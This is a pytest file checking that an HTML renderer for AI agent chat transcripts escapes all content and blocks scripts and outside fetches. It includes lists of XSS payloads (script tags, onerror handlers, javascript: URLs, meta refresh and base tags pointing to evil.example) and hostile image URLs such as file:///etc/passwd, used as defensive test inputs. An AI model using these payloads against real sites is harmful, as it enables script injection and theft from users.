"""A chat as a page: everything in it is text, nothing in it runs, and it is written whole."""

import base64
import hashlib
import os
import stat
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

from modelport.agents.transcript import html_transcript, write_html
from modelport.types import Usage
from tests.agents.transcript.chats import PNG, Page, call, said, turn

TAGS = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "footer", "section", "article"),
    *("h1", "h2", "a", "b", "bdi", "p", "time", "span", "pre", "code", "details", "summary", "figure", "img"),
    *("figcaption", "table", "tr", "th", "td"),
}
ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "name", "id", "class", "href", "dir", "alt", "src", "scope"}

ATTACKS = [
    "<script>alert(1)</script>",
    "</p></article><script src=//evil.example></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "`onclick=alert(1)`",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "<!-- ",
    "-->",
    "<![CDATA[",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "</style><style>body{display:none}</style>",
    "</title><script>1</script>",
    "```\n</code></pre><script>1</script>\n```",
    '```"><script>\nx',
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "\x00<\x0bscript>\ud800",
]


def everywhere(text: str) -> str:
    """A page with *text* wherever an agent, a model or a tool could put it."""
    image = {"type": "image_url", "image_url": {"url": text}}
    turns = [
        said(text, sender=text, recipient=text, model=text, usage=Usage(prompt_tokens=1)),
        said([{"type": "text", "text": text}, image, {"type": text}, text]),
        said([{"type": "image_url", "image_url": {"url": f"data:image/png;base64,{text}"}}]),
        said([{"type": "image_url", "image_url": {"url": f"data:{text};base64,AAAA"}}]),
        turn({"role": "assistant", "content": None, "tool_calls": [call(text, text, number=text)]}),
        turn({"role": "assistant", "content": None, "tool_calls": [call("f", f'{{"a": "{text}"}}')]}),
        turn({"role": "assistant", "content": None, "function_call": {"name": text, "arguments": text}}),
        turn({"role": "tool", "tool_responses": [{"tool_call_id": text, "role": "tool", "content": text}]}),
        turn({"role": "function", "name": text, "content": text}),
    ]
    cost = {"usage_including_cached_inference": {text: {"cost": 1.0}}}
    return html_transcript(turns, title=text, summary=text, cost=cost)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_an_agent_says_is_text_and_adds_no_element(attack: str) -> None:
    page = Page(everywhere(attack))

    assert page.tags() <= TAGS
    assert page.attribute_names() <= ATTRIBUTES
    assert {link["href"] for link in page.all("a")} == {f"#turn-{number}" for number in range(1, 10)}
    assert page.all("img") == []
    assert len(page.all("meta")) == 5
    assert len(page.all("style")) == 1


@given(st.text(max_size=40))
def test_no_text_at_all_changes_what_the_page_consists_of(text: str) -> None:
    page = Page(everywhere(text))

    assert page.tags() <= TAGS
    assert page.attribute_names() <= ATTRIBUTES
    assert len(page.all("article")) == 9


def test_what_was_said_can_be_read_letter_by_letter() -> None:
    page = Page(html_transcript([said("a <b> & \"c\" 'd' `e`\n  f\tg 世界 🙂")]))

    assert page.within("p")[-1] == "a <b> & \"c\" 'd' `e`\n  f\tg 世界 🙂"


def test_nothing_is_fetched_and_nothing_may_run() -> None:
    html = everywhere("https://evil.example/x.png")
    page = Page(html)
    [policy] = [meta["content"] for meta in page.all("meta") if meta.get("http-equiv") == "Content-Security-Policy"]
    [style] = page.within("style")
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()

    assert policy == (
        f"default-src 'none'; img-src data:; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )
    assert "url(" not in style
    assert "@import" not in style
    assert html.index("Content-Security-Policy") < html.index("<title>")
    assert not {"script", "link", "iframe", "object", "form", "svg"} & page.tags()


@pytest.mark.parametrize("kind", ["png", "jpeg", "gif", "webp", "bmp", "avif", "PNG"])
def test_a_picture_whose_bytes_are_in_the_message_is_shown(kind: str) -> None:
    url = f"data:image/{kind};base64,iVBORw0KGgo="

    [image] = Page(html_transcript([said([{"type": "image_url", "image_url": {"url": url}}])])).all("img")

    assert image == {"alt": f"image/{kind.lower()}, 8 bytes", "src": url}


@pytest.mark.parametrize(
    "url",
    [
        "data:image/svg+xml;base64,PHN2Zz4=",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/png,<svg onload=alert(1)>",
        "data:image/png;charset=x;base64,AAAA",
        "data:image/png;base64,AAAA\nAAAA",
        'data:image/png;base64,AAAA" onerror="alert(1)',
        "javascript:alert(1)",
        "http://127.0.0.1/x.png",
        "file:///etc/passwd",
        "//evil.example/x.png",
        "",
        None,
    ],
)
def test_any_other_picture_is_named_and_not_shown(url: str | None) -> None:
    page = Page(html_transcript([said([{"type": "image_url", "image_url": {"url": url}}])]))

    assert page.all("img") == []
    assert page.within("p")[-1].startswith("[")


def test_code_between_fences_is_code_and_keeps_its_lines() -> None:
    page = Page(html_transcript([said("Try\n\n````py\n\nx = 1\n```\ny\n````\nor\n```\nz")]))

    assert page.within("code") == ["\nx = 1\n```\ny", "z"]
    assert [text for text in page.within("p") if text.strip()][-2:] == ["Try", "or"]


def test_tool_calls_and_results_are_folded_under_the_tools_name() -> None:
    asked = {"role": "assistant", "content": None, "tool_calls": [call("weather", '{"city":"Rome"}', "c7")]}
    given_back = {"role": "tool", "tool_responses": [{"tool_call_id": "c7", "role": "tool", "content": "sunny"}]}

    page = Page(html_transcript([turn(asked), turn(given_back)]))

    assert [each["class"] for each in page.all("details")] == ["call", "result"]
    assert page.within("code") == ["weather", '{"city": "Rome"}', "weather", "sunny"]


def test_each_turn_tells_what_it_took_and_the_end_tells_it_all() -> None:
    turns = [
        said("a", seconds=1.5, model="eliza", usage=Usage(prompt_tokens=3, completion_tokens=4, estimated=True)),
        said("b", usage=Usage(prompt_tokens=1, completion_tokens=1, cost=0.5), cached=True),
    ]

    page = Page(html_transcript(turns, summary="well done"))

    assert page.within("span") == [
        *("1.5 s", "eliza", "3 tokens in, 4 out (estimated)", "cost unknown"),
        *("1 tokens in, 1 out", "cost $0.50", "from the cache"),
    ]
    assert dict(zip(page.within("th"), page.within("td"), strict=True)) == {
        "turns": "2",
        "time": "1.5 s",
        "tokens": "9 (4 in, 5 out), 1 turn estimated",
        "cost": "$0.50, and unknown in 1 turn; not from the cache: unknown",
    }
    assert "well done" in page.within("p")


def test_a_chat_without_turns_is_a_page_too() -> None:
    page = Page(html_transcript([]))

    assert (page.within("th"), page.within("td"), page.declarations) == (["turns"], ["0"], ["doctype html"])


def test_the_page_has_no_lone_surrogates_and_no_control_characters() -> None:
    html = html_transcript([said("a\x1b[31m\ud800\x00\x9b\r\nb\r")])

    html.encode("utf-8")
    assert "a␛[31m?␀\ufffd\nb␍" in html


# --- writing ---


def test_a_page_is_written_in_place_of_what_was_there(tmp_path: Path) -> None:
    path = tmp_path / "chat.html"
    path.write_text("old", encoding="utf-8")

    write_html(path, [said("grüß 🙂")], title="T")

    assert path.read_text(encoding="utf-8") == html_transcript([said("grüß 🙂")], title="T")
    assert list(tmp_path.iterdir()) == [path]


def test_a_page_that_cannot_be_written_leaves_what_was_there(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "chat.html"
    path.write_text("old", encoding="utf-8")

    def fail(_: int) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "fsync", fail)

    with pytest.raises(OSError, match="disk full"):
        write_html(str(path), [said("new")])
    assert path.read_text(encoding="utf-8") == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_a_folder_that_is_not_there_is_an_error_that_names_it(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError, match="nowhere"):
        write_html(tmp_path / "nowhere" / "chat.html", [said("a")])


def test_a_written_page_has_the_rights_of_any_new_file(tmp_path: Path) -> None:
    (tmp_path / "plain").touch()

    write_html(tmp_path / "chat.html", [said([{"type": "image_url", "image_url": PNG}])])

    assert stat.S_IMODE((tmp_path / "chat.html").stat().st_mode) == stat.S_IMODE((tmp_path / "plain").stat().st_mode)
